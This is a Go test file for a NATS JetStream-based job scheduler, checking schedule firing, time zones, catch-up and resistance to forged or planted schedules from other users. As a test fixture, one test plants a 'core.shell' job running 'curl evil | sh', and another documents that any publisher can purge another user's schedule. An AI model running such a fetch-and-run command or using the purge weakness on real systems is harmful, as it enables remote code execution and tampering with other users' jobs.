package schedule_test

// These tests pin down what the embedded nats-server (2.15.2) does with
// ADR-51 message schedules, as winch uses them: the design rests on it.

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/winchhq/winch/broker"
	"github.com/winchhq/winch/internal/testenv"
	"github.com/winchhq/winch/schedule"
	"github.com/winchhq/winch/schema"
)

func connect(t *testing.T, url string) (*nats.Conn, jetstream.JetStream, *schedule.Store) {
	t.Helper()
	nc, err := nats.Connect(url, nats.MaxReconnects(-1), nats.ReconnectWait(100*time.Millisecond))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	if _, err := broker.Ensure(ctx, js, broker.Topology{}); err != nil {
		t.Fatal(err)
	}
	st, err := schedule.Open(ctx, js)
	if err != nil {
		t.Fatal(err)
	}
	return nc, js, st
}

func def(name, owner string, spec schedule.Spec) schedule.Definition {
	return schedule.Definition{
		Version: schedule.Version, Name: name, Owner: owner,
		Cron: spec.Cron, TimeZone: spec.TimeZone, Every: schema.Duration(spec.Every), At: spec.At,
		CatchUp: schedule.CatchUpRunOnce, CreatedAt: time.Now().UTC(),
		Request: schema.Request{Command: "core.echo", Params: map[string]any{"text": "hi"}, Queue: "default"},
	}
}

// fires collects the fires of a schedule as the server stores them.
type fires struct {
	mu  sync.Mutex
	got []schedule.Fire
}

func (f *fires) all() []schedule.Fire {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]schedule.Fire(nil), f.got...)
}

func watchFires(t *testing.T, js jetstream.JetStream, name, owner string) *fires {
	t.Helper()
	c, err := js.OrderedConsumer(t.Context(), broker.SchedulesStream, jetstream.OrderedConsumerConfig{
		FilterSubjects: []string{broker.FireSubject(name, owner)},
	})
	if err != nil {
		t.Fatal(err)
	}
	f := &fires{}
	cc, err := c.Consume(func(m jetstream.Msg) {
		meta, _ := m.Metadata()
		f.mu.Lock()
		defer f.mu.Unlock()
		f.got = append(f.got, schedule.Fire{Subject: m.Subject(), Scheduler: m.Headers().Get(schedule.HeaderScheduler),
			Next: m.Headers().Get(schedule.HeaderScheduleNext), Data: m.Data(), Stamp: meta.Timestamp})
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cc.Stop)
	return f
}

func waitFor(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("after %v: %s", d, what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestServerFiresAnIntervalRepeatedlyWithItsHeaders(t *testing.T) {
	t.Parallel()
	_, js, st := connect(t, natsURL)
	d := def("every-second", "alice", schedule.Spec{Every: time.Second})
	f := watchFires(t, js, d.Name, d.Owner)
	if err := st.Put(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "three fires", func() bool { return len(f.all()) >= 3 })
	ids := map[string]bool{}
	for _, fire := range f.all()[:3] {
		if fire.Scheduler != broker.ScheduleSubject(d.Name, d.Owner) {
			t.Fatalf("Nats-Scheduler %q, want the schedule's subject", fire.Scheduler)
		}
		if _, err := time.Parse(time.RFC3339Nano, fire.Next); err != nil {
			t.Fatalf("Nats-Schedule-Next %q: %v", fire.Next, err)
		}
		got, err := schedule.Relay(fire)
		if err != nil {
			t.Fatal(err)
		}
		if got.Request.Principal != "alice" || got.Request.Schedule != d.Name || got.Late > time.Second {
			t.Fatalf("relayed %+v late %v", got.Request, got.Late)
		}
		ids[got.Request.ID] = true
	}
	if len(ids) != 3 {
		t.Fatalf("three fires made %d job ids: %v", len(ids), ids)
	}
}

func TestServerFiresAnAtOnceAndForgetsTheSchedule(t *testing.T) {
	t.Parallel()
	_, js, st := connect(t, natsURL)
	at := time.Now().Add(1500 * time.Millisecond).Truncate(time.Second).Add(time.Second)
	d := def("once", "alice", schedule.Spec{At: at})
	f := watchFires(t, js, d.Name, d.Owner)
	if err := st.Put(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "the fire", func() bool { return len(f.all()) == 1 })
	fire := f.all()[0]
	if fire.Next != "purge" {
		t.Fatalf("Nats-Schedule-Next %q, want purge", fire.Next)
	}
	if fire.Stamp.Before(at) || fire.Stamp.Sub(at) > time.Second {
		t.Fatalf("fired at %v, due %v", fire.Stamp, at)
	}
	got, err := schedule.Relay(fire)
	if err != nil {
		t.Fatal(err)
	}
	if want := schedule.JobID("once", "alice", at); got.Request.ID != want {
		t.Fatalf("job %s, want %s", got.Request.ID, want)
	}
	if _, err := st.Get(t.Context(), d.Name); !errors.Is(err, schedule.ErrNotFound) {
		t.Fatalf("the schedule after its fire: %v, want not found (the server purges it)", err)
	}
	time.Sleep(1500 * time.Millisecond)
	if n := len(f.all()); n != 1 {
		t.Fatalf("%d fires, want 1", n)
	}
}

// A cron in a time zone fires at that zone's wall-clock time. Six fields
// (seconds first) let the test ask for a time seconds away.
func TestServerFiresACronInItsTimeZone(t *testing.T) {
	t.Parallel()
	_, js, st := connect(t, natsURL)
	berlin, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Fatal(err)
	}
	due := time.Now().Add(2 * time.Second).Truncate(time.Second).In(berlin)
	spec := schedule.Spec{Cron: fmt.Sprintf("%d %d %d * * *", due.Second(), due.Minute(), due.Hour()), TimeZone: "Europe/Berlin"}
	if err := spec.Check(time.Now()); err != nil {
		t.Fatal(err)
	}
	if next := spec.Next(time.Now(), time.Time{}); !next.Equal(due) {
		t.Fatalf("next fire %v, want %v", next, due)
	}
	// The same wall-clock time in UTC is hours away: the zone counts.
	if utc := (schedule.Spec{Cron: spec.Cron}).Next(time.Now(), time.Time{}); utc.Equal(due) {
		t.Fatalf("in UTC it fires at %v too; the test needs a zone other than UTC", utc)
	}
	d := def("berlin", "alice", spec)
	f := watchFires(t, js, d.Name, d.Owner)
	if err := st.Put(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 6*time.Second, "the fire", func() bool { return len(f.all()) == 1 })
	fire := f.all()[0]
	if fire.Stamp.Before(due) || fire.Stamp.Sub(due) > time.Second {
		t.Fatalf("fired at %v, due %v", fire.Stamp, due)
	}
	got, err := schedule.Relay(fire)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Nominal.Equal(due) || !strings.Contains(got.Request.ID, due.UTC().Format("20060102t150405")) {
		t.Fatalf("fire of %v named %s, due %v", got.Nominal, got.Request.ID, due)
	}
	next, err := time.Parse(time.RFC3339Nano, fire.Next)
	if err != nil || !next.Equal(due.AddDate(0, 0, 1)) {
		t.Fatalf("next fire %q, want a day later, %v", fire.Next, due.AddDate(0, 0, 1))
	}
}

func TestServerPausedRemovedAndResumedSchedules(t *testing.T) {
	t.Parallel()
	_, js, st := connect(t, natsURL)
	d := def("pausing", "alice", schedule.Spec{Every: time.Second})
	d.Paused = true
	f := watchFires(t, js, d.Name, d.Owner)
	if err := st.Put(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	got, err := st.Get(t.Context(), d.Name)
	if err != nil || !got.Paused {
		t.Fatalf("get: %+v, %v; want paused", got, err)
	}
	time.Sleep(2500 * time.Millisecond)
	if n := len(f.all()); n != 0 {
		t.Fatalf("paused, it fired %d times", n)
	}
	d.Paused = false
	if err := st.Put(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 4*time.Second, "a fire after resuming", func() bool { return len(f.all()) >= 1 })
	if err := st.Remove(t.Context(), d.Name, d.Owner); err != nil {
		t.Fatal(err)
	}
	n := len(f.all())
	time.Sleep(2500 * time.Millisecond)
	if m := len(f.all()); m > n+1 { // one may have been on its way
		t.Fatalf("removed, it fired %d more times", m-n)
	}
	if _, err := st.Get(t.Context(), d.Name); !errors.Is(err, schedule.ErrNotFound) {
		t.Fatalf("get after remove: %v", err)
	}
}

// The server stores a fire on whatever target the schedule names; the
// Nats-Scheduler header (which a client cannot set on its own) says whose
// schedule it was, so a schedule of alice's that targets bob's fires is
// refused.
func TestServerFireOfAForgedTargetIsRefused(t *testing.T) {
	t.Parallel()
	_, js, _ := connect(t, natsURL)
	f := watchFires(t, js, "forged", "bob")
	msg := nats.NewMsg(broker.ScheduleSubject("forged", "alice"))
	msg.Data = def("forged", "bob", schedule.Spec{}).Encode()
	msg.Header.Set(schedule.HeaderSchedule, "@every 1s")
	msg.Header.Set(schedule.HeaderScheduleTarget, broker.FireSubject("forged", "bob"))
	if _, err := js.PublishMsg(t.Context(), msg); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 4*time.Second, "the fire", func() bool { return len(f.all()) >= 1 })
	if _, err := schedule.Relay(f.all()[0]); !errors.Is(err, schedule.ErrForged) {
		t.Fatalf("relay: %v, want ErrForged", err)
	}
	// A client cannot add the header itself (without a purge).
	msg = nats.NewMsg(broker.FireSubject("forged", "bob"))
	msg.Header.Set(schedule.HeaderScheduler, broker.ScheduleSubject("forged", "bob"))
	if _, err := js.PublishMsg(t.Context(), msg); err == nil {
		t.Fatal("the server took a client's Nats-Scheduler header")
	}
	if s, err := js.Stream(t.Context(), broker.SchedulesStream); err == nil {
		_ = s.Purge(t.Context(), jetstream.WithPurgeSubject(broker.ScheduleSubject("forged", "alice")))
	}
}

// What the server does not check: anyone who may publish into the stream
// may delete any schedule in it, with the purge headers. Pinned here so
// that a server that starts checking shows up.
func TestServerLetsAnyPublisherPurgeASchedule(t *testing.T) {
	t.Parallel()
	_, _, st := connect(t, natsURL)
	_, js, _ := connect(t, natsURL)
	d := def("victim", "bob", schedule.Spec{Every: time.Hour})
	if err := st.Put(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	msg := nats.NewMsg(broker.ScheduleSubject("mine", "alice"))
	msg.Header.Set(schedule.HeaderScheduler, broker.ScheduleSubject("victim", "bob"))
	msg.Header.Set(schedule.HeaderScheduleNext, "purge")
	if _, err := js.PublishMsg(t.Context(), msg); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Get(t.Context(), "victim"); !errors.Is(err, schedule.ErrNotFound) {
		t.Fatalf("bob's schedule after alice's purge message: %v; the server now checks who purges (update the README)", err)
	}
}

func TestServerRefusesWhatItCannotSchedule(t *testing.T) {
	t.Parallel()
	_, js, _ := connect(t, natsURL)
	for _, tc := range []struct{ pattern, tz string }{
		{"@every 1s", "Europe/Berlin"}, // a zone only for cron
		{"0 3 * * *", ""},              // the server wants six fields
		{"0 0 3 * * *", "Mars/Olympus"},
		{"@every 500ms", ""},
	} {
		msg := nats.NewMsg(broker.ScheduleSubject("refused", "alice"))
		msg.Header.Set(schedule.HeaderSchedule, tc.pattern)
		if tc.tz != "" {
			msg.Header.Set(schedule.HeaderScheduleTimeZone, tc.tz)
		}
		msg.Header.Set(schedule.HeaderScheduleTarget, broker.FireSubject("refused", "alice"))
		if _, err := js.PublishMsg(t.Context(), msg); err == nil {
			t.Errorf("the server took %q in %q", tc.pattern, tc.tz)
		}
	}
}

// A fire due while the server was down comes once, when it is back; the
// relay sees it late, which is what --catch-up decides on.
func TestServerFiresAMissedScheduleOnceAfterARestart(t *testing.T) {
	t.Parallel()
	srv := testenv.RestartableNATS(t)
	_, js, st := connect(t, srv.URL)
	at := time.Now().Add(time.Second).Truncate(time.Second).Add(time.Second)
	cronDue := at.Add(time.Second)
	ds := []schedule.Definition{
		def("missed-at", "alice", schedule.Spec{At: at}),
		def("missed-cron", "alice", schedule.Spec{Cron: fmt.Sprintf("%d * * * * *", cronDue.Second())}),
	}
	for _, d := range ds {
		if err := st.Put(t.Context(), d); err != nil {
			t.Fatal(err)
		}
	}
	srv.Restart(time.Until(cronDue) + 2*time.Second)
	fa := watchFires(t, js, "missed-at", "alice")
	fc := watchFires(t, js, "missed-cron", "alice")
	waitFor(t, 10*time.Second, "both missed fires", func() bool { return len(fa.all()) == 1 && len(fc.all()) == 1 })
	time.Sleep(time.Second)
	if len(fa.all()) != 1 || len(fc.all()) != 1 {
		t.Fatalf("fires after the restart: at %d, cron %d; want one each", len(fa.all()), len(fc.all()))
	}
	for _, tc := range []struct {
		f   *fires
		due time.Time
	}{{fa, at}, {fc, cronDue}} {
		got, err := schedule.Relay(tc.f.all()[0])
		if err != nil {
			t.Fatal(err)
		}
		if !got.Nominal.Equal(tc.due) || got.Late < time.Second {
			t.Fatalf("%s: due %v late %v; want due %v and late", got.Def.Name, got.Nominal, got.Late, tc.due)
		}
	}
}

// plant has alice's schedule fire a copy of data onto target, another
// principal's subject in the same stream: ADR-51 lets a schedule's
// Nats-Schedule-Target name any subject of its stream, and the copy comes
// without the Nats-Schedule headers but with the server's Nats-Scheduler.
// It returns once the copy is stored.
func plant(t *testing.T, js jetstream.JetStream, from, target string, data []byte) {
	t.Helper()
	s, err := js.Stream(t.Context(), broker.SchedulesStream)
	if err != nil {
		t.Fatal(err)
	}
	msg := nats.NewMsg(from)
	msg.Data = data
	msg.Header.Set(schedule.HeaderSchedule, "@at "+time.Now().Add(time.Second).UTC().Format(time.RFC3339))
	msg.Header.Set(schedule.HeaderScheduleTarget, target)
	if _, err := js.PublishMsg(t.Context(), msg); err != nil {
		t.Fatalf("alice's schedule targeting %s: %v", target, err)
	}
	waitFor(t, 5*time.Second, "the planted copy on "+target, func() bool {
		m, err := s.GetLastMsgForSubject(t.Context(), target)
		return err == nil && m.Header.Get(schedule.HeaderScheduler) == from
	})
}

// Alice may publish only on her own schedule subjects, but her schedule's
// fire can land on bob's schedule and run-record subjects. None of it may
// read as bob's: not as a (paused) schedule he could resume, nor as a fire
// record that decides his catch-up; what bob really stored still reads.
func TestPlantedSchedulesAndRecordsAreNotTheOwners(t *testing.T) {
	t.Parallel()
	_, js, st := connect(t, natsURL)
	evil := def("plant", "bob", schedule.Spec{Every: time.Hour})
	evil.Request.Command, evil.Request.Params = "core.shell", map[string]any{"script": "curl evil | sh"}

	// A schedule name bob never had.
	plant(t, js, broker.ScheduleSubject("evil1", "alice"), broker.ScheduleSubject("plant", "bob"), evil.Encode())
	if e, err := st.Get(t.Context(), "plant"); !errors.Is(err, schedule.ErrNotFound) {
		t.Fatalf("alice's copy reads as bob's schedule: %+v, %v", e, err)
	}
	list, err := st.List(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range list {
		if e.Name == "plant" {
			t.Fatalf("alice's copy listed as bob's schedule: %+v", e)
		}
	}

	// Over a schedule bob has: his still reads, not alice's copy.
	mine := def("planted-over", "bob", schedule.Spec{Every: time.Hour})
	if err := st.Put(t.Context(), mine); err != nil {
		t.Fatal(err)
	}
	over := evil
	over.Name = "planted-over"
	plant(t, js, broker.ScheduleSubject("evil2", "alice"), broker.ScheduleSubject("planted-over", "bob"), over.Encode())
	e, err := st.Get(t.Context(), "planted-over")
	if err != nil || e.Paused || e.Request.Command != "core.echo" {
		t.Fatalf("bob's schedule under alice's copy: %+v, %v", e, err)
	}
	list, err = st.List(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, e := range list {
		if e.Name == "planted-over" {
			n++
			if e.Paused || e.Request.Command != "core.echo" {
				t.Fatalf("listed: %+v", e)
			}
		}
	}
	if n != 1 {
		t.Fatalf("bob's schedule listed %d times", n)
	}

	// Fire records: a forged one neither adds to bob's nor hides his last.
	real := schedule.Run{Job: schedule.JobID("planted-over", "bob", time.Now().Truncate(time.Second)), Fire: time.Now().UTC().Truncate(time.Second), Relayed: time.Now().UTC(), Next: time.Now().Add(time.Hour).UTC()}
	if err := st.Record(t.Context(), "planted-over", "bob", real); err != nil {
		t.Fatal(err)
	}
	forged, _ := json.Marshal(schedule.Run{Job: "forged-job", Fire: time.Now().UTC(), Relayed: time.Now().UTC(), Skipped: "forged", Next: time.Unix(0, 0).UTC()})
	plant(t, js, broker.ScheduleSubject("evil3", "alice"), broker.RunSubject("planted-over", "bob"), forged)
	plant(t, js, broker.ScheduleSubject("evil4", "alice"), broker.RunSubject("never-ran", "bob"), forged)
	runs, err := st.Runs(t.Context(), "planted-over", "bob")
	if err != nil || len(runs) != 1 || runs[0].Job != real.Job {
		t.Fatalf("bob's runs: %+v, %v", runs, err)
	}
	last, ok, err := st.LastRun(t.Context(), "planted-over", "bob")
	if err != nil || !ok || last.Job != real.Job {
		t.Fatalf("bob's last run: %+v %v %v", last, ok, err)
	}
	lasts, err := st.LastRuns(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if r := lasts[broker.ScheduleSubject("planted-over", "bob")]; r.Job != real.Job {
		t.Fatalf("bob's last run in LastRuns: %+v", r)
	}
	if r, ok := lasts[broker.ScheduleSubject("never-ran", "bob")]; ok {
		t.Fatalf("a forged record listed: %+v", r)
	}
	if _, ok, err := st.RecordedOwner(t.Context(), "never-ran"); ok || err != nil {
		t.Fatalf("a forged record names an owner: %v %v", ok, err)
	}
}

// Catch-up runs only the latest of several missed fires; a fire alice's
// schedule planted on bob's fire subject must not count as that later one
// (it would make bob's own fire skipped, and is refused itself).
func TestLaterFireCountsOnlyTheOwnersFires(t *testing.T) {
	t.Parallel()
	_, js, st := connect(t, natsURL)
	s, err := js.Stream(t.Context(), broker.SchedulesStream)
	if err != nil {
		t.Fatal(err)
	}
	fire := func() uint64 {
		t.Helper()
		m, err := s.GetLastMsgForSubject(t.Context(), broker.FireSubject("later", "bob"))
		if err != nil {
			return 0
		}
		return m.Sequence
	}
	at := func() {
		t.Helper()
		before := fire()
		d := def("later", "bob", schedule.Spec{At: time.Now().Add(time.Second).Truncate(time.Second)})
		if err := st.Put(t.Context(), d); err != nil {
			t.Fatal(err)
		}
		waitFor(t, 5*time.Second, "bob's fire", func() bool { return fire() > before })
	}
	at()
	first := fire()
	plant(t, js, broker.ScheduleSubject("later-evil", "alice"), broker.FireSubject("later", "bob"), def("later", "bob", schedule.Spec{}).Encode())
	if later, err := st.LaterFire(t.Context(), "later", "bob", first); err != nil || later {
		t.Fatalf("alice's planted fire counts as bob's later fire: %v, %v", later, err)
	}
	at()
	if later, err := st.LaterFire(t.Context(), "later", "bob", first); err != nil || !later {
		t.Fatalf("bob's own later fire: %v, %v", later, err)
	}
	if later, err := st.LaterFire(t.Context(), "later", "bob", fire()); err != nil || later {
		t.Fatalf("after the last fire: %v, %v", later, err)
	}
}
